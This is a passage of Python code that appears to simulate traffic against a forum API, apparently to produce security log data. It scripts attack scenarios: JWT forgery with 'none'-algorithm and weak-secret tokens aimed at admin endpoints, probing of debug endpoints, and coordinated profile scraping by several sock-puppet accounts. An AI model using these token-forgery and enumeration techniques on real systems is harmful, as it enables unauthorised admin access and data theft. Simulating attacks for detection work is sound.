        toks = [own.rsplit('.', 1)[0] + '.', jwt(c, KEY, 'none', ''), jwt(c, KEY, 'None', ''), jwt(c, KEY, 'NONE', 'x'), jwt(c, KEY, 'HS256', own.rsplit('.', 1)[1]), own[:-3] + 'abc'] + [jwt(c, k) for k in ('secret', 'password', 'jwt', 'changeme', 'loft', 'forum', 'key', 'loft123', 's3cr3t', 'mysecret', 'kiln', 'loftsecret')]
        for t in toks: yield r.uniform(2, 15); S.call(cl, 'GET', '/api/admin/stats', h={'x-access-token': t})
        for u in ('/api/admin/users?page=1&limit=100', '/api/admin/export', '/api/me'): yield r.uniform(5, 30); S.call(cl, 'GET', u, h={'x-access-token': toks[-1]})
    run(8, 1.2, f21)
    def f22():
        cl = cli('141.98.11.60', 'curl/7.88.1', 'F22')
        for u in ('/api/_debug', '/api/users/_debug', '/api/posts/_debug', '/api/users/_debug'): S.call(cl, 'GET', u); yield r.uniform(20, 300)
    run(3, 22.4, f22)
    def f24(k, P):
        dv = P['devs'][0]; cl = cli(P['home'], dv['ua'], 'F24')
        for d in range(7, 11):
            yield max(1, at(d, r.uniform(8, 19)) - S.now); enter(cl, P['n'], P['know'])
            S.call(cl, 'GET', f'/api/users?page={k // 2 + 1}&limit=20')
            mine = sorted(app.users)[k::8] if d % 2 else sorted(app.users)[k * 10:k * 10 + 10]
            for n in mine[:r.randint(8, 12)]:
                yield r.lognormvariate(5, .8)
                if n != P['n']: S.call(cl, 'GET', f'/api/users/{n}')
    for k, ip in enumerate(('82.66.14.9', '79.112.40.200', '5.12.77.31', '188.27.9.4', '95.76.3.118', '86.120.200.7', '109.96.22.81', '31.5.140.66')):
        P = w.person(f'{r.choice(FIRST)}_{r.choice(WORDS)}{r.randint(1, 99)}', u={}, home=ip, devs=[dict(w.device('web'), ua=BROWSERS[0])])
        def reg(P=P):
            S.call(cl := cli(P['home'], BROWSERS[0], 'F24'), 'POST', '/api/register', js=dict(username=P['n'], password=P['know'], email=f'{P["n"]}@mail.example')); yield 5; enter(cl, P['n'], P['know'])
            yield 3; S.call(cl, 'GET', '/api/posts?page=1&limit=20')
        S.spawn(at(6, 9 + k * 1.3), reg()); S.spawn(at(7, 7), f24(k, P))
